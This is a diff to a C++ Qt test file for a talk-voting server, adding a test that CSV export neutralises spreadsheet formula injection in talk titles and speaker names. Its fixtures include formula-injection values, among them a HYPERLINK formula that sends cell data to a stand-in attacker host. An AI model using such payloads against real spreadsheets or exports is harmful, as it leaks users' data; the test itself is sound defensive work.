@@ -1,14 +1,17 @@
 // SPDX-License-Identifier: MIT
 // Lightning talks and votes on a real server: the rules of proposing, one vote per user per
 // talk under concurrent toggling with every client's tallies equal to the database's, resends
-// that change nothing, moderators running the vote, and the CSV export.
+// that change nothing, moderators running the vote, and the CSV export (with titles and names
+// that a spreadsheet would take for formulas neutralised).
 #include "protocol.h"
 #include "talkmessages.h"
 #include "testclient.h"
 #include "testserver.h"
 
+#include <QFile>
 #include <QProcess>
 #include <QRandomGenerator>
+#include <QSqlError>
 #include <QSqlQuery>
 #include <QTest>
 
@@ -62,9 +65,12 @@ private Q_SLOTS:
     void moderatorsRunTheVote();
     void hiddenTalksVanishLive();
     void csvExportMatchesTheDatabase();
+    void csvExportNeutralisesFormulas();
 
 private:
     std::unique_ptr<TestClient> signedIn(const QString &username, bool registerFirst = true);
+    std::unique_ptr<TestClient> signedIn(const TestServer &server, const QString &username,
+                                         const QString &displayName);
     qint64 propose(TestClient &client, const QString &title);
     QMap<qint64, qint64> databaseTallies(bool visibleOnly = true);
     TestServer m_server;
@@ -86,12 +92,19 @@ void tst_Talks::initTestCase()
 
 std::unique_ptr<TestClient> tst_Talks::signedIn(const QString &username, bool registerFirst)
 {
+    return signedIn(m_server, username, registerFirst ? username.toUpper() : QString());
+}
+
+// Registers (with a display name) or, without one, signs in.
+std::unique_ptr<TestClient> tst_Talks::signedIn(const TestServer &server, const QString &username,
+                                                const QString &displayName)
+{
     auto client = std::make_unique<TestClient>();
-    if (!client->open(m_server.url()) || client->hello().isError())
+    if (!client->open(server.url()) || client->hello().isError())
         return nullptr;
-    const Envelope reply = registerFirst
-            ? client->registerUser(username, Password, username.toUpper())
-            : client->login(username, Password);
+    const Envelope reply = displayName.isEmpty()
+            ? client->login(username, Password)
+            : client->registerUser(username, Password, displayName);
     return reply.isError() ? nullptr : std::move(client);
 }
 
@@ -443,6 +456,73 @@ void tst_Talks::csvExportMatchesTheDatabase()
     QVERIFY(tool.waitForFinished(20'000));
     QCOMPARE(tool.exitCode(), 0);
     QCOMPARE(QString::fromUtf8(tool.readAllStandardOutput()), csv);
+}
+
+void tst_Talks::csvExportNeutralisesFormulas()
+{
+    // A room of its own, so the whole file is known to the byte.
+    TestServer server;
+    QVERIFY(server.start());
+    QVERIFY(server.createModerator(QStringLiteral("csvmod"), Password));
+    auto moderator = signedIn(server, QStringLiteral("csvmod"), {});
+    auto mallory = signedIn(server, QStringLiteral("mallory"), QStringLiteral("@Mallory"));
+    auto ann = signedIn(server, QStringLiteral("ann"), QStringLiteral("Ann, Speaker"));
+    QVERIFY(moderator && mallory && ann);
+
+    // No votes: the rows come in the order proposed.
+    const QList<std::pair<TestClient *, QString>> proposals = {
+            {mallory.get(), QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Hi\")")},
+            {mallory.get(), QStringLiteral("+1")},
+            {mallory.get(), QStringLiteral("-2+3")},
+            {mallory.get(), QStringLiteral("@SUM(A1)")},
+            {ann.get(), QStringLiteral("Tab first")}, // gets its tab below
+            {ann.get(), QStringLiteral("Return first")}, // gets its carriage return below
+            {ann.get(), QStringLiteral("Say \"hi\", then 1+1=2")},
+            {ann.get(), QStringLiteral("Plain - no formula")},
+    };
+    QList<qint64> ids;
+    for (const auto &[speaker, title] : proposals) {
+        ids.append(propose(*speaker, title));
+        QVERIFY2(ids.constLast() > 0, qPrintable(title));
+    }
+    // The protocol refuses control characters in a title, but a database written by hand or
+    // by an older version may hold them: the export must not trust it.
+    {
+        QSqlDatabase db = openDatabase(server.databaseUrl(), QStringLiteral("csvformulas"));
+        QSqlQuery query(db);
+        QVERIFY(query.prepare(QStringLiteral("UPDATE talks SET title = ? WHERE id = ?")));
+        for (const auto &[index, title] :
+             {std::pair{4, QStringLiteral("\t=1+1")}, std::pair{5, QStringLiteral("\r=2+2")}}) {
+            query.addBindValue(title);
+            query.addBindValue(ids.at(index));
+            QVERIFY2(query.exec(), qPrintable(query.lastError().text()));
+        }
+    }
+    QSqlDatabase::removeDatabase(QStringLiteral("csvformulas"));
+
+    const QString expected = QStringLiteral(
+            "rank,title,speaker,votes\r\n"
+            "1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Hi\"\")\",\"'@Mallory\",0\r\n"
+            "2,\"'+1\",\"'@Mallory\",0\r\n"
+            "3,\"'-2+3\",\"'@Mallory\",0\r\n"
+            "4,\"'@SUM(A1)\",\"'@Mallory\",0\r\n"
+            "5,\"'\t=1+1\",\"Ann, Speaker\",0\r\n"
+            "6,\"'\r=2+2\",\"Ann, Speaker\",0\r\n"
+            "7,\"Say \"\"hi\"\", then 1+1=2\",\"Ann, Speaker\",0\r\n"
+            "8,Plain - no formula,\"Ann, Speaker\",0\r\n");
+
+    // Through the real server, as a moderator's app asks for it...
+    const Envelope exported = moderator->request(Protocol::Type::ExportTalks);
+    QVERIFY2(!exported.isError(), qPrintable(exported.toError().message));
+    QCOMPARE(exported.data.value(QStringLiteral("csv")).toString(), expected);
+
+    // ...and from the command line, to a file.
+    const QString path = server.dir() + QStringLiteral("/results.csv");
+    QString output;
+    QCOMPARE(server.runTool({QStringLiteral("--export-talks"), path}, &output), 0);
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    QCOMPARE(QString::fromUtf8(file.readAll()), expected);
 }
 
 QTEST_GUILESS_MAIN(tst_Talks)
